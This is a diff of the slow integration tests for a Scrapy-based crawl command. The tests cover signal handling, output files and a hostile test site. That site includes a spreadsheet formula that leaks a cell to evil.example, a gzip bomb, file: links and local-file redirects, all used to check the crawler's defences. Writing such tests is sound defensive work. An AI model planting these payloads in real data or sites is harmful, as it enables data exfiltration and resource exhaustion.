@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import codecs
 import csv
 import gzip
 import json
@@ -17,11 +18,12 @@ import pytest
 from scrapy.settings import Settings
 
 from scrapy_stemmer import PatternSet, StemmerError
-from scrapy_stemmer.commands.crawl_site import POLITE, left_out
+from scrapy_stemmer.commands.crawl_site import POLITE
 from scrapy_stemmer.commands.demo import bundled_pages, handler_of
-from scrapy_stemmer.commands.page_forms import file_path_of
+from scrapy_stemmer.outputs.files import file_path_of
 from tests import processes
 from tests.commands.subcommand import run
+from tests.crawl.website import NAVIGATION, Article, Website, links_to
 
 pytestmark = pytest.mark.slow
 
@@ -63,26 +65,23 @@ def test_a_table_of_all_articles(crawl: Crawl, port: int, tmp_path: Path) -> Non
     assert (bridge["authors"], bridge["published"][:10]) == ("Marta Quill", "2025-03-04")
     assert "Subscribe" not in bridge["text"]
     assert done.stdout == f"{len(rows)} pages now in articles.csv\n"
-    assert "of kinds that STEMMER_KINDS leaves out, such as lists" in done.stderr
-    told = "Ctrl-C ends it: articles.csv then has the pages so far."
+    assert "of the kind list (for all kinds: -s STEMMER_KINDS=)" in done.stderr
+    told = "Ctrl-C ends it. Each page is put into articles.csv when its site is learned."
     assert f"Crawling localhost:{port}. {told}\n" in done.stderr
     (patterns,) = (tmp_path / "patterns").glob("localhost*.jsonl")
     assert PatternSet.load(str(patterns)).sites == (f"localhost:{port}",)
 
 
-def test_lines_with_all_fields_also_of_lists(crawl: Crawl, tmp_path: Path) -> None:
-    done = crawl("-o", "pages.jsonl.gz", "--fields", "-s", "STEMMER_KINDS=")
+def test_several_outputs_with_all_fields_also_of_lists(crawl: Crawl, tmp_path: Path) -> None:
+    done = crawl("-o", "pages.jsonl.gz", "-o", "texts", "--fields", "-s", "STEMMER_KINDS=")
     assert done.returncode == 0, done.stderr
     pages = [json.loads(line) for line in gzip.decompress((tmp_path / "pages.jsonl.gz").read_bytes()).splitlines()]
     assert {page["kind"] for page in pages} >= {"content", "list"}
     (bridge,) = [page for page in pages if page["url"].endswith(BRIDGE)]
     assert (bridge["authors"], bridge["language"]) == (["Marta Quill"], "en")
     assert bridge["html"].startswith("<")
-
-
-def test_a_folder_of_markdown(crawl: Crawl, port: int, tmp_path: Path) -> None:
-    done = crawl("-o", "texts")
-    assert done.returncode == 0, done.stderr
+    assert done.stdout == f"{len(pages)} pages now in pages.jsonl.gz, texts\n"
+    assert len(list((tmp_path / "texts").rglob("*.md"))) == len(pages)
     text = next((tmp_path / "texts").rglob("weir-bridge-closes.md")).read_text(encoding="utf-8")
     assert 'title: "Old Weir Bridge to close' in text
     assert 'authors: ["Marta Quill"]' in text
@@ -95,27 +94,166 @@ def test_a_crawl_stops_after_max_pages(crawl: Crawl, tmp_path: Path) -> None:
     assert 0 < (tmp_path / "articles.md").read_text(encoding="utf-8").count("\nurl: ") <= 10
 
 
-def test_ctrl_c_ends_it_and_what_was_found_is_written(port: int, tmp_path: Path) -> None:
-    words = ["stemmer", "crawl", f"http://localhost:{port}/", "-s", "DOWNLOAD_DELAY=0.2", "-o", "articles.csv"]
-    out, err = tmp_path / "out.txt", tmp_path / "err.txt"
-    started = processes.start(processes._scrapy, words, out=out, err=err, folder=tmp_path)
-    until = time.monotonic() + 60
-    while "items released" not in err.read_text(encoding="utf-8") and time.monotonic() < until:
-        time.sleep(0.1)
-    started.send_signal(signal.SIGINT)
-    assert started.wait() == 130
-    pages = (tmp_path / "articles.csv").read_text(encoding="utf-8").count("http://localhost")
-    assert out.read_text(encoding="utf-8") == f"{pages} pages now in articles.csv\n"
-    assert err.read_text(encoding="utf-8").endswith("scrapy stemmer crawl: interrupted\n")
+FAST = ("-s", "DOWNLOAD_DELAY=0.05")
+
+
+class Running:
+    """A crawl of a site without end, which puts its pages into ``x.csv``, and of one page that never comes.
+
+    :param more: further arguments of the command.
+    """
+
+    def __init__(self, website: Website, folder: Path, scratch: Path, *more: str) -> None:
+        for number in range(400):
+            links = links_to({f"/{number + 1}": "next", f"/{2 * number + 5}": "more"})
+            website.add(f"/{number}", Article(number).html(links))
+        website.add("/slow", "", when=lambda: False)
+        self.out, self.err, self.table = scratch / "out.txt", scratch / "err.txt", folder / "x.csv"
+        urls = [website.url("/0"), website.url("/slow", "localhost")]
+        words = ["stemmer", "crawl", *urls, "-o", "x.csv", *FAST, *more]
+        earlier = self.table.stat().st_ino if self.table.exists() else None
+        self.process = processes.start(processes._scrapy, words, out=self.out, err=self.err, folder=folder)
+        until = time.monotonic() + 60
+        while not (self.rows() and self.table.stat().st_ino != earlier) and time.monotonic() < until:
+            time.sleep(0.1)
+
+    def rows(self) -> list[dict[str, str]]:
+        if not self.table.exists():
+            return []
+        with self.table.open(encoding="utf-8", newline="") as file:
+            return list(csv.DictReader(file))
+
+
+@pytest.mark.parametrize("signals", [["SIGINT"], ["SIGTERM"], ["SIGHUP", "SIGHUP"]])
+def test_a_signal_ends_it_soon_whatever_it_waits_for(
+    signals: list[str], website: Website, tmp_path: Path, tmp_path_factory: pytest.TempPathFactory
+) -> None:
+    """A terminal that is closed may send SIGHUP twice, and Ctrl-C twice would leave out the orderly end."""
+    running = Running(website, tmp_path, tmp_path_factory.mktemp("printed"))
+    for name in signals:
+        running.process.send_signal(signal.Signals[name])
+    assert running.process.wait() == 130  # Scrapy would wait 180 seconds for the page that never comes
+    assert running.out.read_text(encoding="utf-8") == f"{len(running.rows())} pages now in x.csv\n"
+    assert running.err.read_text(encoding="utf-8").endswith("scrapy stemmer crawl: interrupted\n")
+
+
+def test_the_pages_of_a_killed_crawl_are_in_its_output_and_kept_by_the_next(
+    website: Website, tmp_path: Path, tmp_path_factory: pytest.TempPathFactory
+) -> None:
+    killed = Running(website, tmp_path, tmp_path_factory.mktemp("printed"))
+    killed.process.kill()
+    killed.process.wait()
+    rows = killed.rows()
+    assert rows
+    following = Running(website, tmp_path, tmp_path_factory.mktemp("printed"))
+    following.process.send_signal(signal.SIGINT)
+    following.process.wait()
+    told = following.err.read_text(encoding="utf-8")
+    assert "x.csv of an earlier crawl is kept as x.csv.1 until this one has ended.\n" in told
+    assert "The pages of an earlier crawl are still in x.csv.1.\n" in told
+    killed.table = tmp_path / "x.csv.1"
+    assert killed.rows()[: len(rows)] == rows
+    assert following.rows()
 
 
 def test_a_crawl_without_a_page_leaves_the_file_that_is_there(crawl: Crawl, tmp_path: Path) -> None:
     (tmp_path / "articles.csv").write_text("mine")
     done = crawl("-o", "articles.csv", path="/nothing")
     assert done.returncode == 1
-    assert "left out: 1 page with the HTTP status 404" in done.stderr
+    assert "left out: 1 page: HTTP status 404" in done.stderr
     assert "No page of localhost" in done.stderr
+    assert [path.name for path in tmp_path.glob("articles*")] == ["articles.csv"]
     assert (tmp_path / "articles.csv").read_text() == "mine"
+
+
+def test_an_ended_crawl_replaces_the_file_that_is_there(crawl: Crawl, tmp_path: Path) -> None:
+    (tmp_path / "articles.csv").write_text("earlier")
+    done = crawl("-o", "articles.csv", "--max-pages", 10)
+    assert done.returncode == 0, done.stderr
+    assert [path.name for path in tmp_path.glob("articles*")] == ["articles.csv"]
+    assert (tmp_path / "articles.csv").read_text(encoding="utf-8").startswith("url,")
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&amp;A1,"Click")'
+
+
+@pytest.fixture(scope="module")
+def of_hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, Website, str]]:
+    """Crawl a site that does what it should not; return the folder, the site and the notes."""
+    folder, scratch = tmp_path_factory.mktemp("hostile"), tmp_path_factory.mktemp("printed")
+    (folder / "secret.html").write_text(Article(1000).html())
+    local = f"//localhost{folder}/secret.html"
+    links = {f"/{number}": "more" for number in range(12)} | {
+        f"file:{local}": "secret",
+        f"ftp:{local}": "secret",
+        "data:text/html,secret": "secret",
+        "/redirected": "redirected",
+        "/refreshed": "refreshed",
+        "/base": "base",
+        "/bomb": "bomb",
+        "/private": "private",
+        "/paper": "paper",
+        "/gone": "gone",
+        "/elsewhere": "elsewhere",
+    }
+    with Website() as website:
+        website.add("/robots.txt", "User-agent: *\nDisallow: /private\nCrawl-delay: 0.06", content_type="text/plain")
+        for number in range(12):
+            website.add(
+                f"/{number}",
+                Article(number).html(links_to(links)).replace("<h1", f"<link rel=canonical href='file:{local}'><h1"),
+            )
+        website.add("/3", Article(3).html().replace(Article(3).headline, FORMULA))
+        website.add("/redirected", "", status=302, headers={"Location": f"file:{local}"})
+        website.add("/refreshed", f"<meta http-equiv=refresh content='0;url=file:{local}'>" + Article(20).html())
+        website.add("/base", Article(21).html().replace("<title>", "<base href='http://['><title>"))
+        bomb = gzip.compress(b"<b>x</b>" * 500_000, 9)
+        website.add("/bomb", bomb, headers={"Content-Encoding": "gzip"})
+        website.add("/private", Article(22).html())
+        website.add("/paper", b"%PDF-1.7", content_type="application/pdf")
+        website.add("/elsewhere", "", status=302, headers={"Location": "http://127.0.0.2/"})
+        more = ("-o", "x.csv", "-o", "x.md", "--left-out", "left.csv", "-s", "FEED_EXPORT_ENCODING=utf-8-sig")
+        words = ["crawl", website.url("/0", "localhost"), *more, *FAST, "-s", "STEMMER_MAX_BODY=1000000"]
+        done = processes.scrapy("stemmer", *words, folder=folder, scratch=scratch)
+        assert done.returncode == 0, done.stderr
+        yield folder, website, done.stderr
+
+
+def test_a_site_leads_to_no_file_of_this_machine(of_hostile_site: tuple[Path, Website, str]) -> None:
+    folder, _, _ = of_hostile_site
+    assert Article(1000).headline not in (folder / "x.csv").read_text(encoding="utf-8-sig")
+
+
+def test_pages_that_are_not_written_are_named_with_their_reasons(of_hostile_site: tuple[Path, Website, str]) -> None:
+    folder, website, told = of_hostile_site
+    with (folder / "left.csv").open(encoding="utf-8", newline="") as file:
+        left_out = {
+            row["url"].removeprefix(website.url("/", "localhost")): row["reason"] for row in csv.DictReader(file)
+        }
+    assert {path: reason for path, reason in left_out.items() if path not in NAVIGATION.split()} == {
+        "private": "forbidden by robots.txt",
+        "gone": "HTTP status 404",
+        "bomb": "larger than DOWNLOAD_MAXSIZE",
+        "paper": "no HTML",
+        "base": "failed (ValueError)",
+        "redirected": "HTTP status 302",
+        "http://127.0.0.2/": "on another domain",
+    }
+    assert "left out: 1 page: forbidden by robots.txt\n" in told
+    assert f"  {website.url('/private', 'localhost')} (forbidden by robots.txt)\n" in told
+
+
+def test_a_spreadsheet_shows_formulas_of_pages_as_text(of_hostile_site: tuple[Path, Website, str]) -> None:
+    folder, website, _ = of_hostile_site
+    content = (folder / "x.csv").read_bytes()
+    assert content.count(codecs.BOM_UTF8) == 1
+    rows = {row["url"]: row for row in csv.DictReader(content.decode("utf-8-sig").splitlines(keepends=True))}
+    assert rows[website.url("/3", "localhost")]["title"].startswith("'=HYPERLINK")
+    assert codecs.BOM_UTF8 not in (folder / "x.md").read_bytes()
+
+
+def test_the_command_crawl_waits_as_long_as_robots_txt_asks(of_hostile_site: tuple[Path, Website, str]) -> None:
+    assert "localhost asks for 0.06 seconds between two pages (Crawl-delay in robots.txt)\n" in of_hostile_site[2]
 
 
 @pytest.mark.skipif(not Path("/dev/full").exists(), reason="the system has no full device")
@@ -156,12 +294,18 @@ def test_a_setting_that_cannot_be_used_ends_it(crawl: Crawl, setting: str, messa
             "its name tells no format. Let it end in .jsonl, .jl, .ndjson, .csv, .md (",
         ),
         (("http://a.example/", "-o", "-"), "A crawl is written as JSON Lines"),
+        (("http://a.example/", "-o", "a.csv", "-o", "./a.csv"), "./a.csv would be overwritten, but it is in use"),
     ],
 )
 def test_what_can_not_be_done_is_told_before_the_crawl(arguments: tuple[str, ...], told: str) -> None:
     with pytest.raises(StemmerError) as raised:
         run("crawl", *arguments)
     assert told in str(raised.value)
+
+
+def test_only_tables_are_written_in_other_encodings() -> None:
+    with pytest.raises(StemmerError, match=r"FEED_EXPORT_ENCODING is latin-1, but a\.md is always in UTF-8"):
+        run("crawl", "http://a.example/", "-o", "a.md", FEED_EXPORT_ENCODING="latin-1")
 
 
 def test_the_command_crawl_refuses_a_jobdir() -> None:
@@ -178,17 +322,3 @@ def test_the_command_crawl_is_as_polite_as_a_new_project() -> None:
     for name in ("ROBOTSTXT_OBEY", "DOWNLOAD_DELAY", "CONCURRENT_REQUESTS_PER_DOMAIN"):
         assert POLITE[name] == names.get(name, POLITE[name])
         assert name in Settings()
-
-
-def test_what_is_left_out_is_told() -> None:
-    stats = {
-        "robotstxt/forbidden": 2,
-        "httperror/response_ignored_status_count/404": 1,
-        "downloader/exception_type_count/twisted.internet.error.DNSLookupError": 3,
-        "downloader/request_count": 9,
-    }
-    assert list(left_out(stats)) == [
-        "left out: 2 pages that robots.txt forbids",
-        "failed: 3 requests: DNSLookupError",
-        "left out: 1 page with the HTTP status 404",
-    ]
